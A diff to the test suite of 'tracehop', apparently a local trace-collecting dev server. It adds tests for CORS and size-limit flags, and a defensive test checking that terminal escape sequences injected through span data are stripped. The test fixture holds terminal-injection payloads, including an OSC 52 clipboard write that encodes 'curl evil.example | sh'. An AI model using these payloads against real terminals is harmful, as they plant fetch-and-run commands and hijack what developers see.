@@ -66,13 +66,17 @@ async function until(what: () => boolean, ms: number, label: string): Promise<vo
   }
 }
 
+// biome-ignore lint/suspicious/noControlCharactersInRegex: tracehop's own colour codes
+const SGR = /\x1b\[[0-9;]*m/g
+
 async function listening(r: Run): Promise<string> {
+  const banner = (): string => r.stdout().replace(SGR, '')
   await until(
-    () => /listening on (http:\/\/\S+)/.test(r.stdout()) || r.child.exitCode !== null,
+    () => /listening on (http:\/\/\S+)/.test(banner()) || r.child.exitCode !== null,
     10_000,
     'the banner',
   )
-  const url = /listening on (http:\/\/\S+)/.exec(r.stdout())?.[1]
+  const url = /listening on (http:\/\/\S+)/.exec(banner())?.[1]
   if (!url) throw new Error(`no banner; stderr: ${r.stderr()}`)
   return url
 }
@@ -163,11 +167,49 @@ describe('argument parsing', () => {
   it('reads every flag in both spellings', () => {
     expect(parseArgs(['dev'])).toEqual({
       command: 'dev',
-      options: { port: 4318, host: '127.0.0.1', quiet: false },
+      options: { port: 4318, host: '127.0.0.1', quiet: false, corsOrigins: [], limits: {} },
     })
     expect(parseArgs(['dev', '--port=0', '--host', '::1', '--json=x.jsonl', '--quiet'])).toEqual({
       command: 'dev',
-      options: { port: 0, host: '::1', jsonFile: 'x.jsonl', quiet: true },
+      options: { port: 0, host: '::1', jsonFile: 'x.jsonl', quiet: true, corsOrigins: [], limits: {} },
+    })
+    expect(
+      parseArgs([
+        'dev',
+        '--cors-origin',
+        'https://App.example.com/',
+        '--cors-origin=http://10.0.0.5:3000',
+        '--max-body-size',
+        '1mb',
+        '--max-decoded-size=4MB',
+        '--max-attribute-length',
+        '2048',
+        '--max-stored-size',
+        '64mb',
+        '--max-traces',
+        '50',
+        '--max-concurrent-bodies',
+        '2',
+        '--max-queued-bodies',
+        '0',
+      ]),
+    ).toEqual({
+      command: 'dev',
+      options: {
+        port: 4318,
+        host: '127.0.0.1',
+        quiet: false,
+        corsOrigins: ['https://app.example.com', 'http://10.0.0.5:3000'],
+        limits: {
+          maxBodyBytes: 1024 ** 2,
+          maxDecodedBytes: 4 * 1024 ** 2,
+          maxAttributeLength: 2048,
+          maxStoredBytes: 64 * 1024 ** 2,
+          maxTraces: 50,
+          maxConcurrentBodies: 2,
+          maxQueuedBodies: 0,
+        },
+      },
     })
   })
 
@@ -183,6 +225,18 @@ describe('argument parsing', () => {
     expect(message(['dev', '--quiet=yes'])).toBe('--quiet takes no value')
     expect(message(['dev', '--jsn', 'x'])).toBe('unknown option --jsn (did you mean --json?)')
     expect(message(['dev', 'extra'])).toBe("unexpected argument 'extra'")
+    expect(message(['dev', '--cors-origin', 'app.example.com'])).toBe(
+      "--cors-origin must be an http(s) origin such as https://app.example.com, got 'app.example.com'",
+    )
+    expect(message(['dev', '--max-stored-size', '12parsecs'])).toBe(
+      "--max-stored-size must be a size such as 512kb or 32mb, got '12parsecs'",
+    )
+    expect(message(['dev', '--max-concurrent-bodies', '0'])).toBe(
+      "--max-concurrent-bodies must be an integer >= 1, got '0'",
+    )
+    expect(message(['dev', '--max-trace', '5'])).toBe(
+      'unknown option --max-trace (did you mean --max-traces?)',
+    )
   })
 })
 
@@ -243,4 +297,114 @@ describe('the published build (the project tsup config, cli entries)', () => {
     expect(out).toMatch(/^tracehop \d+\.\d+\.\d+/)
     expect(code).toBe(0)
   })
+})
+
+describe('the terminal is not writable by strangers', () => {
+  // What a page could put in a span to drive the developer's terminal.
+  const ATTACKS = {
+    osc52Clipboard: '\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07',
+    oscTitle: '\x1b]0;pwned\x1b\\',
+    c1OscTitle: '\x9d2;pwned\x9c',
+    clearScreen: '\x1b[2J\x1b[3J\x1b[H',
+    c1Csi: '\x9b2J',
+    dcs: '\x1bP$q"p\x1b\\',
+    reset: '\x1bc',
+    bareEsc: '\x1b',
+    controls: '\x07\x08\x00\r',
+  }
+  const HOSTILE = Object.values(ATTACKS).join('')
+  const PART = '0190aaaa-0000-7000-8000-000000000001'
+
+  // biome-ignore lint/suspicious/noControlCharactersInRegex: what must not reach the terminal
+  const CONTROL = /[\x00-\x09\x0b-\x1f\x7f-\x9f]/g
+
+  /** Every escape or control character in `text` other than newline (and, with `sgr`, colour codes). */
+  function controlsIn(text: string, sgr: boolean): string[] {
+    const stripped = sgr ? text.replace(SGR, '') : text
+    return [...stripped.matchAll(CONTROL)].map((m) => JSON.stringify(m[0]))
+  }
+
+  async function attack(url: string): Promise<string> {
+    const traceId = 'e'.repeat(32)
+    const otlpBody = {
+      resourceSpans: [
+        {
+          resource: { attributes: [{ key: 'service.name', value: { stringValue: `gate${HOSTILE}way` } }] },
+          scopeSpans: [
+            {
+              spans: [
+                {
+                  traceId,
+                  spanId: '1'.repeat(16),
+                  name: `plan${HOSTILE}step`,
+                  startTimeUnixNano: '1700000000000000000',
+                  endTimeUnixNano: '1700000001000000000',
+                  attributes: [{ key: 'note', value: { stringValue: HOSTILE } }],
+                  status: { code: 2, message: `boom${HOSTILE}!` },
+                },
+              ],
+            },
+          ],
+        },
+      ],
+    }
+    const res = await post(`${url}/v1/traces`, JSON.stringify(otlpBody), {
+      'content-type': 'application/json',
+    })
+    expect(res.status).toBe(200)
+    // A rejected multipart part whose name quotes the attack into a log line on stderr.
+    const boundary = 'b0undary'
+    const inName = `${ATTACKS.osc52Clipboard}${ATTACKS.clearScreen}${ATTACKS.c1Csi}\r` // no quote or backslash
+    const multipart = `--${boundary}\r\nContent-Disposition: form-data; name="post.${inName}"\r\nContent-Type: application/json\r\n\r\n{}\r\n--${boundary}--\r\n`
+    const refused = await post(`${url}/runs/multipart`, multipart, {
+      'content-type': `multipart/form-data; boundary=${boundary}`,
+    })
+    expect(refused.status).toBe(400)
+    // And a LangSmith run with a hostile name and error.
+    const run = {
+      id: PART,
+      trace_id: PART,
+      dotted_order: `20240531T100100000000Z${PART}`,
+      name: `tool${HOSTILE}call`,
+      run_type: 'tool',
+      start_time: 1_700_000_000_000,
+      end_time: 1_700_000_000_500,
+      error: `fail${HOSTILE}ed`,
+      session_name: `proj${HOSTILE}`,
+    }
+    const ls = await post(`${url}/runs/batch`, JSON.stringify({ post: [run] }), {
+      'content-type': 'application/json',
+    })
+    expect(ls.status).toBe(202)
+    return traceId
+  }
+
+  for (const color of [false, true])
+    it(`prints span names, services, errors and log lines without escape sequences (${color ? 'FORCE_COLOR' : 'NO_COLOR'})`, async () => {
+      const r = run(['dev', '--port', '0'], color ? { FORCE_COLOR: '1' } : {})
+      const url = await listening(r)
+      const traceId = await attack(url)
+      const runTrace = PART.replaceAll('-', '')
+      await until(
+        () => r.stdout().includes(`${traceId}`) && r.stdout().includes(`#trace=${runTrace}`),
+        8000,
+        'both waterfalls',
+      )
+      await until(() => r.stderr().includes('run id is not a UUID'), 4000, 'the log line')
+      r.child.kill('SIGINT')
+      expect(await r.exited).toBe(0)
+      const out = r.stdout()
+      const err = r.stderr()
+      // The text around each attack is still there, the attack is not.
+      const plain = out.replace(SGR, '')
+      expect(plain).toContain('plan step') // the \r became a space; everything else is gone
+      expect(plain).toContain('gate way')
+      expect(plain).toContain('boom !')
+      expect(plain).toContain('tool call')
+      expect(plain).toContain('fail ed')
+      expect(err).toContain('rejected LangSmith request: part post. : run id is not a UUID')
+      expect(controlsIn(out, color)).toEqual([])
+      expect(controlsIn(err, false)).toEqual([])
+      if (color) expect(out.replace(SGR, '')).not.toBe(out) // tracehop's own colours stay
+    })
 })
